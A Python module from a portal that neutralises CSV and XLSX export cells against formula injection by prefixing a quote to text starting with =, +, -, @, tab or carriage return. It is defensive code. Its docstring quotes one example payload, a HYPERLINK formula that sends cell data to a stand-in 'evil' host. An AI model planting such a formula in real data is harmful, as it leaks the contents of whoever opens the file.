"""Cells that leave the portal in a spreadsheet (CSV or XLSX) cannot run as formulas.

A spreadsheet program treats a cell starting with ``=``, ``+``, ``-`` or ``@`` (and,
in some programs, a leading tab or carriage return) as a formula: a name such as
``=HYPERLINK("http://evil/?"&A1)`` typed by an applicant would run on an officer's
machine (CSV injection, OWASP). Every export passes its cells through
``spreadsheet_cell``, which puts a single quote in front of such text.

Typed numbers (``int``, ``Decimal``, ``float``) are values, not text, and stay as they
are; so does text that is one plain number (``"-5"``, ``"+62"``: a CSV export renders
integers as text, and a lone number cannot be a formula). Anything else starting with
one of the characters above, such as ``"-1+2"``, is escaped.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

import tablib

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def spreadsheet_cell(value: Any) -> Any:
    """``value`` made safe to open in a spreadsheet; non-text values come back unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if PLAIN_NUMBER.fullmatch(value):
        return value
    return f"'{value}"


def spreadsheet_row(values: Iterable[Any]) -> list[Any]:
    return [spreadsheet_cell(value) for value in values]


def spreadsheet_dataset_neutralise(dataset: tablib.Dataset) -> tablib.Dataset:
    """A copy of a ``tablib.Dataset`` with every cell (headers included) escaped."""
    headers = spreadsheet_row(dataset.headers) if dataset.headers else None
    return tablib.Dataset(*(spreadsheet_row(row) for row in dataset), headers=headers, title=dataset.title)


def spreadsheet_csv(rows: Iterable[Iterable[Any]]) -> str:
    """Rows written as CSV text, every cell escaped: the one way the portal writes a CSV."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow(spreadsheet_row(row))
    return buffer.getvalue()
